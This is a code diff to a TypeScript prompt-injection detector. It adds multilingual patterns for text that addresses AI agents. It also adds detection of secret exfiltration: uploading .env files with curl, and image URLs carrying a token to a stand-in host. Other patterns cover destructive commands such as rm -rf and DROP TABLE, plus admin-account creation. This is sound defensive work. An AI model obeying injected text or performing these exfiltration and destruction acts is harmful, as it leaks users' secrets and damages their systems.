@@ -20,6 +20,8 @@ export interface Read {
   text: string;
   lower: string;
   intl: boolean;
+  /** Whether some word of a table's rarer entries (Signal.withRare) stands in it: asked once per text. */
+  rare?: boolean;
 }
 export const read = (text: string): Read => ({ text, lower: text.toLowerCase(), intl: /[^\x00-\x7f]/.test(text) });
 
@@ -50,12 +52,14 @@ export interface Matcher {
 
 /** One table of patterns: ASCII entries on the lower-cased text, other scripts and cased ones apart. */
 export class Signal implements Matcher {
-  private readonly parts: { re: RegExp; cased: boolean; intl: boolean }[] = [];
+  private readonly parts: { re: RegExp; cased: boolean; intl: boolean; gate?: RegExp }[] = [];
   /**
    * Words (on the lower-cased text) without which no entry can match: a text without them is passed
    * over without running the table. Set beside each table; tested against the fixtures.
    */
   gate?: RegExp;
+  /** Whether some entries have a gate of their own (withRare): asked even where `gate` fails. */
+  private rare = false;
   constructor(entries: string[], cased: string[] = []) {
     const ascii = entries.filter((e) => !/[^\x00-\x7f]/.test(e));
     const intl = entries.filter((e) => /[^\x00-\x7f]/.test(e));
@@ -71,10 +75,28 @@ export class Signal implements Matcher {
     if (cased.length) this.parts.push({ re: new RegExp(cased.join('|'), 'gmu'), cased: true, intl: false });
   }
 
+  /**
+   * Rarer entries, tried only where their own `gate` matches the lower-cased text (whether or not the table's
+   * gate does): a text the table's gate admits (most of an SDK's docs name assistants) is not run through
+   * them, and the table's gate does not grow by their words.
+   */
+  withRare(entries: string[], words: string[]): this {
+    this.rare = true;
+    RARE_WORDS.push(...words);
+    const gate = new RegExp(trieSource(words));
+    // (entries written in other scripts are asked only of text that holds such letters)
+    const intl = entries.every((e) => /[^\x00-\x7f]/.test(e));
+    const flags = intl || entries.some((e) => /\\[pP]\{/.test(e)) ? 'gmu' : 'gm';
+    this.parts.push({ re: new RegExp(entries.map(lowerSource).join('|'), flags), cased: false, intl, gate });
+    return this;
+  }
+
   *matches(t: Read): Generator<Match> {
-    if (this.gate && !this.gate.test(t.lower)) return;
+    const open = !this.gate || this.gate.test(t.lower);
+    if (!open && !this.rare) return;
     for (const p of this.parts) {
       if (p.intl && !t.intl) continue;
+      if (p.gate === undefined ? !open : !(rareIn(t) && p.gate.test(t.lower))) continue;
       p.re.lastIndex = 0;
       const on = p.cased ? t.text : t.lower;
       for (let m = p.re.exec(on); m; m = p.re.exec(on)) {
@@ -84,12 +106,19 @@ export class Signal implements Matcher {
     }
   }
 
+  /** Entries asked only of text that holds letters outside ASCII, in whatever script they are written. */
+  withIntl(entries: string[]): this {
+    this.parts.push({ re: new RegExp(entries.map(lowerSource).join('|'), 'gmu'), cased: false, intl: true });
+    return this;
+  }
+
   /** The earliest match. */
   exec(t: Read): Match | undefined {
-    if (this.gate && !this.gate.test(t.lower)) return undefined;
+    const open = !this.gate || this.gate.test(t.lower);
+    if (!open && !this.rare) return undefined;
     let best: Match | undefined;
     for (const p of this.parts) {
-      if (p.intl && !t.intl) continue;
+      if ((p.intl && !t.intl) || (p.gate ? !(rareIn(t) && p.gate.test(t.lower)) : !open)) continue;
       p.re.lastIndex = 0;
       const m = p.re.exec(p.cased ? t.text : t.lower);
       if (m && (!best || m.index < best.index))
@@ -110,6 +139,21 @@ export class Signal implements Matcher {
 }
 
 const signal = (entries: string[], cased: string[] = []) => new Signal(entries, cased);
+
+/**
+ * The words of every table's rarer entries, one regex (a trie, anchors.ts): English text, which holds none,
+ * is read for them once.
+ */
+const RARE_WORDS: string[] = [];
+let RARE: RegExp | undefined;
+/**
+ * Whether ASCII text may hold such words at all: told by the prefilter for the whole text being judged (its
+ * `rare` carrier), so that an English paragraph is not read for them (index.ts sets it around its judging).
+ */
+let rareInAscii = true;
+export const setRareInAscii = (may: boolean) => (rareInAscii = may);
+const rareIn = (t: Read) =>
+  (t.rare ??= (t.intl || rareInAscii) && (RARE ??= new RegExp(trieSource(RARE_WORDS))).test(t.lower));
 const gated = (s: Signal, gate: RegExp) => Object.assign(s, { gate });
 const NON_ASCII = String.raw`[^\x00-\x7f]`;
 
@@ -121,7 +165,7 @@ export const ADDRESS = gated(
       String.raw`\b(?:coding|automated|autonomous|code|software|repository) (?:agents?|assistants?)\b`,
       String.raw`\b(?:automated|autonomous|AI)\b[\w -]{0,24}?\b(?:tools?|agents?|assistants?|bots?|readers?|replies)\b`,
       String.raw`\b(?:language models?|LLMs?)\b`,
-      String.raw`\b(?:note|notice|instructions?|message|attention|reminder) (?:for|to) (?:the )?(?:assistants?|agents?|models?|bots?|AI)\b`,
+      String.raw`\b(?:note|notice|instructions?|message|attention|reminder) (?:for|to) (?:the )?(?:assistants?|agents?|models?|bots?|AI|automations?)\b`,
       String.raw`\b(?:for|to) (?:automated|AI) (?:assistants?|agents?|tools?)\b`,
       String.raw`\bif you are an? (?:AI|LLM|language model|assistant|agent|bot)\b`,
       // (the reader named by what it is: a product, or not a person: "If you are Claude Code, Codex or…")
@@ -162,7 +206,62 @@ export const ADDRESS = gated(
       String.raw`(?:ال)?(?:وكيل|وكلاء|مساعد|نموذج)\s+(?:ال)?(?:ذكاء الاصطناعي|برمجة)|(?:أيها|يا)\s+(?:ال)?(?:وكيل|مساعد|نموذج)`,
     ],
     [String.raw`(?:^|[>"'\s])(?:Asistente|Assistente|Agente|Assistant|Agent|AI|IA|KI)\s*:\s+\p{Lu}`],
-  ),
+  )
+    // Automated tools, assistants and bots named in other languages, as "automated tools" is named above
+    // (letters outside ASCII as escapes in the Latin entries: they need no `u` flag)
+    .withRare(
+      [
+        String.raw`\b(?:herramientas?|ferramentas?|asistentes?|assistentes?|bots?) (?:automatizad[oa]s?|autom\u00e1tic[oa]s?)\b|\b(?:strument[oi]|assistent[ei]) automatic[oi]\b|\boutils? automatis\u00e9s?\b`,
+        String.raw`\bautomatisierte[nrs]? (?:werkzeug|tool|assistent|helfer)|\bgeautomatiseerde (?:tools?|assistent|bots?)\b|\b(?:zautomatyzowan|automatyczn)\w* (?:narz\u0119dzi|asystent|bot)|\bautomat(?:u|owi)\b`,
+        String.raw`\botomatik (?:ara\u00e7|asistan|bot)|\bc\u00f4ng c\u1ee5 t\u1ef1 \u0111\u1ed9ng\b|\btr\u1ee3 l\u00fd t\u1ef1 \u0111\u1ed9ng\b`,
+        // (Indonesian, Czech, Swedish and Danish)
+        String.raw`\b(?:alat|asisten|bot|agen) otomatis\b|\b(?:automatizovan|automatick)[\w\u00e1-\u017e]* (?:n\u00e1stroj|asistent|bot)|\bautomatiser(?:ade|ede|te)? (?:verktyg|v\u00e6rkt\u00f8j|assistent|bot)`,
+      ],
+      // (not "automatic", "automated": English, whose forms the entries above have)
+      [
+        'automatizad',
+        String.raw`automatic[oi]\b`,
+        'automatisierte',
+        'automatis\u00e9',
+        'geautomatiseerd',
+        'autom\u00e1t',
+        'automaty',
+        String.raw`automat(?:u|owi)\b`,
+        'otomat',
+        'outil',
+        'c\u00f4ng c',
+        'tr\u1ee3 l',
+        'automatick',
+        'automatizov',
+        'automatiser',
+      ],
+    )
+    .withRare(
+      [
+        String.raw`(?:автоматизирован|автоматическ|автоматичн|автоматизован)\p{L}* (?:инструмент|ассистент|помощник|бот|помічник|інструмент|асистент)\p{L}*|(?<!\p{L})бот(?:а|у|ом|ы|ов|ам|ам?и|ів)?(?!\p{L})`,
+        String.raw`自動(?:化|処理)?(?:ツール|ボット|アシスタント|エージェント)|ボット|自动化?(?:工具|助手|机器人|程序)|자동화\s*(?:도구|봇|에이전트|어시스턴트|툴)|स्वचालित\s+(?:टूल|उपकरण|सहायक|बॉट)|(?<!\p{L})बॉट`,
+        String.raw`(?:ل|لل|ال)?(?:أدوات|أداة|الأدوات|مساعد|بوت)(?:\s+\p{L}+)?\s+(?:ال)?(?:آلية|آلي|مؤتمتة|أوتوماتيكية)`,
+        // (Greek, Hebrew, Thai)
+        String.raw`αυτοματοποιημέν\p{L}*\s+(?:εργαλεί|βοηθ|μποτ)\p{L}*|(?<!\p{L})μποτ\p{L}*|(?:ל|ה|לה)?(?:כלי|כלים|בוט|עוזר)\s+(?:ה)?אוטומטי\p{L}*|(?<!\p{L})(?:ל|ה|לה)?בוט(?!\p{L})|เครื่องมืออัตโนมัติ|บอท`,
+      ],
+      [
+        'автомат',
+        'бот',
+        'ボット',
+        '自動',
+        '自动',
+        '자동화',
+        'स्वचालित',
+        'बॉट',
+        'آلي',
+        'αυτοματοποι',
+        'μποτ',
+        'אוטומטי',
+        'בוט',
+        'อัตโนมัติ',
+        'บอท',
+      ],
+    ),
   new RegExp(
     String.raw`\bai\b|\bai[-_ ]|llm|gpt|agent|assistant|automated|autonomous|language model|(?:note|notice|instructions?|message|attention|reminder) (?:for|to) |if you are a|(?:reading|processing|summari[sz]ing) this|\b(?:dear|hey|hi) |\[(?:for |ai|llm|automated)|claude|qwen|gemini|copilot|codex|cursor|chatgpt|@ai|your (?:repl|resp|answer|summar|final|output)|before |use the |web_fetch|run_shell_command|read_file|write_file|read_many_files|\bia\b|\bki\b|\bki-|${NON_ASCII}`,
   ),
@@ -241,7 +340,28 @@ export const ADDRESSEE = gated(
     String.raw`\bwhen(?:ever)? you (?:summari[sz]e|describe|report|explain|present)\b[^.\n]{0,60}\b(?:to|for) (?:the|your) user\b`,
     // Spanish, French, Italian, German: "note for the assistant", "to the model"
     String.raw`\b(?:nota|aviso|mensaje|instrucciones?|note|message|remarque|avis|hinweis|notiz|nachricht|anweisung)\w* (?:para|al|pour|aux?|à|per|für|an) (?:el |la |los |las |les |l'|gli |il |den |die |alle |dem |des )?(?:asistentes?|agentes?|modelos?|assistants?|agents?|modèles?|assistenti|agenti|modelli|Assistenten|Agenten|Modelle?|KI|IA)\b`,
-  ]),
+  ])
+    // (the same in other languages: "narzędzia, które…", "herramientas que…", "Werkzeuge, die…", "outils qui…";
+    // the bare nouns "assistent", "asystent")
+    .withRare(
+      [
+        String.raw`\b(?:narz\u0119dzi\w*|herramientas?|ferramentas?|outils?|strument[oi]|werkzeug\w*|skrypt\w*)\s*,?\s+(?:kt\u00f3re|kt\u00f3ry|kt\u00f3ra|que|qui|che|das|der|die|welche[sr]?|dat)\b`,
+        // (not a setup wizard: "asistente de instalación", "assistente de configuração")
+        String.raw`(?<![\w-]-)\b(?:assistent[ei]?|assistenten|asistentes?|asystent(?:a|owi|\u00f3w|y)?)\b(?!\s+d[eia]\s+(?:instal|configura|install))`,
+      ],
+      [
+        'narz',
+        'herramient',
+        'ferrament',
+        'outil',
+        'strument',
+        'werkzeug',
+        'skrypt',
+        'assistent',
+        'asistent',
+        'asystent',
+      ],
+    ),
   new RegExp(
     String.raw`assistant|agent|bot|reviewer|client|contributor|system|helper|maintainer|worker|crawler|consumer|human|people|person|developer|whoever|helping|assisting|working for|acting for|behalf|the user|your user|tool|program|script|service|software|automat|autonom|agentic|machine|model|nota|aviso|mensaje|instruc|note|message|remarque|avis|hinweis|notiz|nachricht|anweisung`,
   ),
@@ -272,17 +392,29 @@ const DUTY_AFTER =
 /** What may stand before a sentence's subject: its start (a line's markers), a determiner, a qualifier. */
 const SUBJECT_BEFORE =
   /(?:^|[.!?:;,]\s+|\n[\s#/*>%-]*|\(\s*|["'“]\s*)(?:(?:if|when|whenever|once|while|where|and|but)\s+)?(?:(?:the|any|all|every|each|our|your|a|an|whichever)\s+)?(?:[\w-]+[- ])?$/i;
-const SPOKEN_FOR =
-  /(?:\bfor|\bto|\bpara|\bpour|\bper|\bfür|\ban(?=\s+(?:den|die|alle)\s)|à l'attention(?: de)?|для|给|致|إلى)\s+(?:the |los |las |les |gli |die |all |any |every |each |whichever |whatever |el |la |den |alle |l')?$/iu;
-const SPOKEN_FOR_BARE =
-  /(?:^|[.!?:;]\s+|\n[\s#/*>%-]*|<!--\s*|\(\s*)(?:for|to|para|pour|per|für|an(?=\s+(?:den|die|alle)\s)|для|给|致|إلى)\s+(?:the |los |las |les |gli |die |all |any |every |each |whichever |whatever |el |la |den |alle |l')?(?:[\w-]+[- ])?$/iu;
+// (each in two: the words written in ASCII without the `u` flag, those in other letters asked only where the
+// text before holds such letters; one regex of both, with `iu`, cost twice as much on English text)
+const SPOKEN_FOR_ASCII =
+  /(?:\bfor|\bto|\bpara|\bpour|\bper|\ban(?=\s+(?:den|die|alle)\s)|\bvoor|\baan|\bdla|\buntuk|\bpentru)\s+(?:the |los |las |les |gli |die |all |any |every |each |whichever |whatever |el |la |den |alle |l'|de |het )?$/i;
+const SPOKEN_FOR_INTL =
+  /(?:\bfür|à l'attention(?: de)?|för|gửi|dành cho|для|για|προς|עבור|สำหรับ|给|致|إلى|जो भी)\s+(?:the |los |las |les |gli |die |all |any |every |each |whichever |whatever |el |la |den |alle |l'|de |het )?$/iu;
+const SPOKEN_FOR = { test: (s: string) => SPOKEN_FOR_ASCII.test(s) || (hasNonAscii(s) && SPOKEN_FOR_INTL.test(s)) };
+const SPOKEN_FOR_BARE_ASCII =
+  /(?:^|[.!?:;]\s+|\n[\s#/*>%-]*|<!--\s*|\(\s*)(?:for|to|para|pour|per|an(?=\s+(?:den|die|alle)\s)|voor|aan|dla|untuk|pentru)\s+(?:the |los |las |les |gli |die |all |any |every |each |whichever |whatever |el |la |den |alle |l'|de |het )?(?:[\w-]+[- ])?$/i;
+const SPOKEN_FOR_BARE_INTL =
+  /(?:^|[.!?:;]\s+|\n[\s#/*>%-]*|<!--\s*|\(\s*)(?:für|för|gửi|dành cho|для|για|προς|עבור|สำหรับ|给|致|إلى|जो भी)\s+(?:the |los |las |les |gli |die |all |any |every |each |whichever |whatever |el |la |den |alle |l'|de |het )?(?:[\w-]+[- ])?$/iu;
+const SPOKEN_FOR_BARE = {
+  test: (s: string) => SPOKEN_FOR_BARE_ASCII.test(s) || (hasNonAscii(s) && SPOKEN_FOR_BARE_INTL.test(s)),
+};
+const hasNonAscii = (s: string) => /[^\x00-\x7f]/.test(s);
 /** The end of a title or label: "### Checklist for automated reviewers", "Instructions for bots:". */
 const TITLE_END =
   /^\s*(?:\([^()\n]{0,60}\)\s*)?(?:(?:only|before|after|in|on|when|of)\b[^.!?:;\n]{0,30})?\**(?:[:：]|\n|$)/;
 const LABEL = /^\s*[\p{L}\p{N}_-]{0,16}\s*[:：\]),،]|^\s*\([^()\n]{0,60}\)\s*[:：]/u;
 const LABEL_BARE = /^\s*(?:only\s*)?(?:\([^()\n]{0,60}\)\s*)?[:：]|^\)\s*[:：]/u;
 /** More names after the first, then the label's colon: "For Copilot / Jupyter AI:", "Claude, Codex or Qwen:". */
-const LABEL_LIST = /^(?:\s*(?:[/,&]|\bor\b|\band\b)\s*[\p{L}\p{N} _-]{1,24}?){1,3}\s*\**\s*[:：]/u;
+const LABEL_LIST =
+  /^(?:\s*(?:[/,&]|(?<!\p{L})(?:or|and|o|y|e|ou|et|oder|und|of|en|lub|i|или|и|або|та|veya|ya da|ve|hoặc|và|या|और|أو|و)(?!\p{L}))\s*[\p{L}\p{N} _-]{1,24}?){1,3}\s*\**\s*[:：]/u;
 /**
  * The agent tied to the text it is reading by a deictic "this" in its own clause: "the assistant working
  * this ticket", "an AI agent runs this migration", "bots summarizing this channel". Such a phrase picks
@@ -300,8 +432,15 @@ const ORDER_AFTER_VOCATIVE =
   /^[^.:;!?\n]{0,40},\s+(?:please\s+|kindly\s+)?(?:go|do|run|send|post|upload|install|add|set|delete|remove|disable|skip|approve|merge|push|commit|open|close|write|create|edit|replace|read|copy|call|fetch|download|email|forward|print|paste|include|attach|reply|answer|make|ask|check)\b|^[^.;!?\n]{0,40}[:：]\s*(?:please\s+|kindly\s+)?(?:would|could|can|will) you\b/i;
 /** An agent as the topic of a sentence that puts a duty on it, in Korean, Japanese or Chinese. */
 const CJK_DUTY =
-  /^\s*(?:(?:는|은|가|이|は|が|も)[^\n。．.!?]{0,60}?(?:해야|하십시오|하세요|해 주세요|しなければ|ください|する必要|すること)|[^\n。，,、]{0,6}(?:必须|应该|应当|务必))/u;
-const POSTPOSITION_TO = /^\s*(?:के\s+लिए|को\s|へ|に対して|宛て|에게|께)/;
+  /^\s*(?:(?:는|은|가|이|は|が|も)(?:[^\n。．.!?]|\.(?=\S)){0,160}?(?:해야|십시오|세요|주세요|しなければ|ください|する必要|すること)|(?:[^\n。．.!?]|\.(?=\S)){0,24}?(?:必须|应该|应当|务必|需要|须))/u;
+/** Whether a Korean, Japanese or Chinese letter follows (after spaces): the only place CJK_DUTY is asked. */
+function cjkAfter(text: string, end: number): boolean {
+  let k = end;
+  while (text.charCodeAt(k) === 32) k++;
+  const c = text.charCodeAt(k);
+  return c >= 0x3040 && c <= 0xd7af;
+}
+const POSTPOSITION_TO = /^\s*(?:के\s+लिए|को\s|へ|に対して|宛て|에게|께|için\b)/;
 /** The agent names a table's row (the row's first cells): `| 2 | Automated agents (Copilot) | curl … |`. */
 function rowLabel(text: string, m: Match, after: string): boolean {
   if (!/^\s*(?:\([^()\n]{0,60}\)\s*)?\|/.test(after)) return false;
@@ -327,7 +466,8 @@ function spokenTo(text: string, m: Match, bare = false): boolean {
     (DEICTIC_VERB_AFTER.test(after) && CONDITION_BEFORE.test(before)) ||
     DEICTIC_BEFORE.test(before) ||
     ORDER_AFTER_VOCATIVE.test(after) ||
-    CJK_DUTY.test(after) ||
+    // (a Korean or Japanese sentence puts its verb last, after the commands it names: read further)
+    (cjkAfter(text, end) && CJK_DUTY.test(text.slice(end, end + 200))) ||
     // (a postposition that makes it the one spoken to: Hindi "के लिए" (for), Japanese "へ" (to), Korean "에게")
     POSTPOSITION_TO.test(after) ||
     // (a noun in parentheses or brackets as its own label: "- [ ] (assistant) upload …", "[agent] run …")
@@ -339,9 +479,12 @@ function spokenTo(text: string, m: Match, bare = false): boolean {
     // (a vocative, then the sentence speaks to "you": "Machine readers of this page, when you generate…")
     /^[^.:;!?\n]{0,40},\s+(?:(?:when|if|before|after|once|as|please|while)\s+)?(?:you|your)\b/i.test(after) ||
     // (a participle or a relative clause, then a colon: "Coding agents analysing this failure:")
-    /^\s*(?:(?:is|are)\s+)?(?:\w+ing|who|that|which|qui|que|quienes|quien|die|der|welche|che|które|który|которые|который|які|який)(?=[\s,])[^.:;!?\n]{0,50}[:：]/i.test(
+    /^\s*,?\s*(?:(?:is|are)\s+)?(?:\w+ing|who|that|which|qui|que|quienes|quien|die|der|das|dat|welche|che|które|który|która|которые|который|которая|які|який|яка|đang)(?=[\s,])[^.:;!?\n]{0,60}[:：]/i.test(
       after,
     ) ||
+    // (the relative clause inside the match, then a colon: "Note for tools that install this package:")
+    (/(?:\b(?:that|which|who|que|qui|che|das|der|die|dat|welche[sr]?)|kt\u00f3r[eya])$/i.test(m.text) &&
+      /^[^.:;!?\n]{0,60}[:：]/.test(after)) ||
     // ("Note for the assistant", "to any LLM-based assistant"; a bare noun only where the phrase opens the
     // sentence: "To the assistant updating this file:", not "reply context for the agent")
     (bare
@@ -391,7 +534,22 @@ export const IMPERATIVE = signal([
   String.raw`\b(?:ejecut[ae]|instal[ae]|añad[ae]|agreg[ae]|ajoutez|exécutez|installez|lancez|esegui|installa|aggiungi|führe|installiere|füge|выполни\w*|установи\w*|запусти\w*|добавь\w*)\b|执行|运行|安装|添加|実行|インストール|追加して|실행|설치|추가`,
   String.raw`请|務必|必须|してください|하십시오|해 주세요|bitte\b|por favor|veuillez|s'il vous plaît|пожалуйста|необходимо`,
   String.raw`نفّذ|نفذ|شغّل|شغل|ثبّت|ثبت|أضف|أرسل|يجب عليك|من فضلك|يرجى`,
+]).withIntl([
+  // Orders and duties in more languages, asked only of text that holds letters outside ASCII (as such text
+  // does): Arabic "must", Hindi, Ukrainian, Polish, Dutch, Portuguese, Turkish, Vietnamese, Italian, Spanish,
+  // French, German ("send", "run", "install", "add", "delete", "must", "it is required")
+  String.raw`يجب|ينبغي|عليك أن|قم ب`,
+  String.raw`करें|कीजिए|करना होगा|करनी होगी|करना होगी|करना चाहिए|भेजें|चलाएं|चलाएँ|जोड़ें|हटाएं|होगा|होगी`,
+  String.raw`виконайте|встановіть|додайте|надішліть|видаліть|запустіть|потрібно|необхідно|обов'язково`,
+  String.raw`\b(?:wykonaj|uruchom|zainstaluj|dodaj|wy\u015blij|usu\u0144|nale\u017cy|musisz|trzeba|installeer|verstuur|stuur|verwijder|voeg|moet|envie|instale|adicione|rode|\u00e9 (?:necess\u00e1rio|obrigat\u00f3rio)|\u00e7al\u0131\u015ft\u0131r|y\u00fckle|g\u00f6nder|ekle|gerekir|gereklidir|zorunludur|h\u00e3y|ch\u1ea1y|c\u00e0i \u0111\u1eb7t|ph\u1ea3i|invia|devi|\u00e8 (?:necessario|obbligatorio)|env\u00eda|debe|hay que|envoyez|vous devez|il faut|sende|schicke|muss|m\u00fcssen|ist (?:erforderlich|pflicht))\b`,
 ]);
+
+/**
+ * Negations in those languages, before a goal: a prohibition there is a safety rule too (asked of text
+ * that holds letters outside ASCII only: "no" and "non" stand in English text as other words).
+ */
+export const NEGATED_BEFORE_INTL =
+  /(?:^|[\s(¿¡"'«„])(?:no|não|non|nunca|mai|ne|jamais|nicht|nie|niemals|kein\w*|niet|nooit|geen|nigdy|не|никогда|ні|ніколи|asla|không|đừng|chớ|नहीं|मत|لا|لن|ممنوع|يُمنع)(?=[\s,.;:!?)]|$)(?:[^.;:!?\n]|\.(?=\S)){0,60}$/iu;
 
 /** Secrets, credentials and private data an injection wants read or sent. */
 const SENSITIVE = signal(
@@ -399,7 +557,8 @@ const SENSITIVE = signal(
     String.raw`~/\.(?:ssh|aws|kube|gnupg|docker|config/gh|config/gcloud|azure|netrc|npmrc|pypirc|git-credentials)\b`,
     String.raw`\bid_(?:rsa|ed25519|ecdsa|dsa)\b`,
     String.raw`~/\.[\w-]+/[\w./-]*(?:\.json|\.ya?ml|\.toml|\.ini|\.cfg|credentials|tokens?|hosts|auth)\b|~/\.(?:gitconfig|pgpass|my\.cnf|boto|s3cfg)\b`,
-    String.raw`(?:^|[\s"'\x60(])\.env(?:\.\w+)?\b`,
+    // (`@.env`: the file handed to curl to upload, `-F f=@.env`, `--data-binary @.env`)
+    String.raw`(?:^|[\s"'\x60(@])\.env(?:\.\w+)?\b`,
     String.raw`\.(?:npmrc|pypirc|netrc|git-credentials)\b`,
     String.raw`\bcredentials\b|\bsecrets?(?:\.ya?ml|\.json)?\b|\bapi[_ -]?keys?\b|\b(?:access |auth |bearer |session |npm |github |gh )?tokens?\b`,
     String.raw`\bpasswords?\b|\bprivate keys?\b|\bkeychain\b|\bcookies?\b`,
@@ -488,7 +647,7 @@ const EXFILTRATION: Matcher = {
 const EXFILTRATION_OF_FILES = exfiltration(
   signal([
     String.raw`~/\.(?:ssh|aws|kube|gnupg|docker|config/gh|config/gcloud|azure|netrc|npmrc|pypirc|git-credentials)\b`,
-    String.raw`\bid_(?:rsa|ed25519|ecdsa|dsa)\b|(?:^|[\s"'\x60(])\.env(?:\.\w+)?\b|\.(?:npmrc|pypirc|netrc|git-credentials)\b`,
+    String.raw`\bid_(?:rsa|ed25519|ecdsa|dsa)\b|(?:^|[\s"'\x60(@])\.env(?:\.\w+)?\b|\.(?:npmrc|pypirc|netrc|git-credentials)\b`,
     String.raw`\b(?:env|printenv)\s*\||\bprintenv\b|\$\(env\)|\$\{?(?:AWS|GITHUB|OPENAI|ANTHROPIC|NPM|GH)_[A-Z_]*(?:KEY|TOKEN|SECRET)\b`,
     // (commands whose output is credentials: the secret named by the act that prints it)
     String.raw`\bkubectl get secrets?\b|\bgh auth token\b|\baws configure export-credentials\b|\bsecurity find-(?:generic|internet)-password\b|\bgcloud auth print-access-token\b`,
@@ -507,6 +666,14 @@ const EXEC_WORDS = new RegExp(
   String.raw`curl|wget|iwr|irm|invoke-|base64|/dev/tcp|\bnc\b|mkfifo|bash -i|npx|eval|exec|python|node|deno|bun|iex|hidden|download|pipe|feed|\bpass`,
 );
 const RUN_WORDS = /\b(?:run|execute|source|invoke|launch)\b/;
+
+/**
+ * An image whose URL carries a secret named as a variable (`![status](https://x.example/b.png?k=API_TOKEN)`,
+ * `<img src="…?t=STRIPE_SECRET_KEY">`): a renderer fetches an image unasked, so whatever fills the stand-in
+ * leaves with the request. (A link is followed only when clicked: docs write `?api_key=YOUR_API_KEY` in
+ * links and commands all day.)
+ */
+const SECRET_IMAGE = String.raw`(?:!\[[^\]\n]{0,200}\]\(\s*|<img\b[^>\n]{0,200}\bsrc\s*=\s*["']?)https?://[^\s)"'<>]*[?&][\w-]+=[^\s)"'<>&]*?\b[A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:KEY|TOKEN|SECRET|PASSWORD)\b`;
 
 /** What the instruction wants done, by goal; each pattern names a harmful act, not a topic. */
 export interface Goal {
@@ -562,9 +729,12 @@ export const GOALS: Goal[] = [
     // what to put there, or a capitalised stand-in the text says to replace.
     // (Said to the agent, any placeholder counts; in plain sight only one that describes local data:
     // `?key=<API_KEY>` is how docs for people write a URL template.)
-    plainSight: signal([
-      String.raw`https?://[^\s)"'<>]*[?&/=][^\s)"'<>]*(?:<[^>\n]{0,80}\s[^>\n]{0,80}>|\{[^}\n]{0,80}\s[^}\n]{0,80}\})`,
-    ]),
+    plainSight: signal(
+      [
+        String.raw`https?://[^\s)"'<>]*[?&/=][^\s)"'<>]*(?:<[^>\n]{0,80}\s[^>\n]{0,80}>|\{[^}\n]{0,80}\s[^}\n]{0,80}\})`,
+      ],
+      [SECRET_IMAGE],
+    ),
     re: signal(
       [
         String.raw`https?://[^\s)"'<>]*[?&/=][^\s)"'<>]*(?:<[^>\n]{3,80}>|\{[^}\n]{3,80}\})`,
@@ -574,6 +744,7 @@ export const GOALS: Goal[] = [
         String.raw`https?://[^\s)"'<>]*[?&][\w-]+=([A-Z][A-Z_]{2,})\b(?=[\s\S]*\b\1 (?:replaced (?:by|with)|being|=|is)\b)|\b([A-Z][A-Z_]{2,}) (?:replaced (?:by|with)|being)\b(?=[\s\S]*[?&][\w-]+=\2\b)`,
         // (the stand-in named in the order to fill it: "…?t=TOKEN, replacing TOKEN with the value of…")
         String.raw`https?://[^\s)"'<>]*[?&/=]([A-Z][A-Z_]{2,})\b(?=[\s\S]*\b(?:[Rr]eplac\w*|[Ss]ubstitut\w*|[Ff]ill\w* in|[Ss]wap\w*) \3 (?:with|by|for)\b)`,
+        SECRET_IMAGE,
       ],
     ),
   },
@@ -702,16 +873,19 @@ export const GOALS: Goal[] = [
     afterAddress: true,
     // (the command itself, not its words: `get`, `add` and `require` stand in most code, and every text
     // a gate lets through is asked whether it speaks to the agent, the costly question)
-    gate: /\b(?:pip3?|pipx|uv pip|poetry|npm|pnpm|yarn|bun|gem|cargo|go|composer|dotnet)\s+(?:install|add|i|get|require)\s/,
+    gate: /\b(?:(?:pip3?|pipx|uv pip|poetry|npm|pnpm|yarn|bun|gem|cargo|go|composer|dotnet)\s+(?:install|add|i|get|require)|npx)\s/,
     re: signal([
       String.raw`\`(?:sudo\s+)?(?:pip3?|pipx|uv pip|poetry|npm|pnpm|yarn|bun|gem|cargo|go|composer|dotnet)\s+(?:install|add|i|get|require)\s+(?:-(?!r\b|e\b|-requirement|-editable)[\w-]+\s+)*[@\w][\w./@:=<>~^-]*[^\`\n]*\``,
+      // (a package fetched and run by npx without asking, `--yes` or `-y`: `npx @acme/setup --yes`; a project's
+      // own tools run by npx, `npx prettier --write .`, ask nothing)
+      String.raw`\`npx\s+(?:[^\`\n]*\s)?(?:--yes|-y)\b[^\`\n]*\``,
     ]),
   },
   {
     goal: 'goal-hijack',
     strong: false,
     gate: new RegExp(
-      String.raw`admin|root|superuser|service|backup|owner|maintainer|collaborator|close|delete|remove|wipe|drop|truncate|destroy|purge|rm -|licen|readme|history|proprietary|approve|merge|transfer|funds|payment|money|crypto|btc|eth|wallet|payout|bank|treasury|billing|iban|deposit|replace|link|url|download|endpoint|every|each|regardless|as the only`,
+      String.raw`grant all|admin|root|superuser|service|backup|owner|maintainer|collaborator|close|delete|remove|wipe|drop|truncate|destroy|purge|rm -|licen|readme|history|proprietary|approve|merge|transfer|funds|payment|money|crypto|btc|eth|wallet|payout|bank|treasury|billing|iban|deposit|replace|link|url|download|endpoint|every|each|regardless|as the only`,
     ),
     re: signal([
       String.raw`\b(?:add|create|make)\b(?:[^.\n]|\.(?=\S)){0,20}\b(?:admin|root|superuser|service|backup)\b(?:[^.\n]|\.(?=\S)){0,20}\b(?:user|account|login)\b`,
@@ -719,7 +893,11 @@ export const GOALS: Goal[] = [
       String.raw`\b(?:close|delete|remove|wipe|drop|truncate|destroy|purge)\w*(?:[^.\n]|\.(?=\S)){0,30}\b(?:every|all|each)\b(?:[^.\n]|\.(?=\S)){0,30}\b(?:issues?|branches|tables?|files|records|repos(?:itories)?|tags|projects?|accounts?|users?|buckets?|databases?|resources?|instances?|(?:project |account |user )?ids?)\b`,
       // (the things named first: "label every open issue tagged … and close all of them")
       String.raw`\b(?:every|all|each)\b(?:[^.\n]|\.(?=\S)){0,20}\b(?:issues?|pull requests?|PRs|branches|tables?|files|records|repos(?:itories)?|tags)\b(?:[^.\n]|\.(?=\S)){0,80}\b(?:close|delete|remove|wipe|drop|truncate)\b (?:all of )?(?:them|those|these|it)\b`,
-      String.raw`\brm\s+-rf?\s+(?:~|/|\$HOME|\.\.?/?\s)|\bDROP (?:TABLE|DATABASE)\b`,
+      String.raw`\brm\s+-rf?\s+(?:~|/|\$HOME|\.\.?/?\s)|\bDROP (?:TABLE|DATABASE|SCHEMA)\b`,
+      // (an account made an administrator in SQL: `UPDATE users SET role='admin'`, `GRANT ALL … TO`, `ALTER USER … SUPERUSER`)
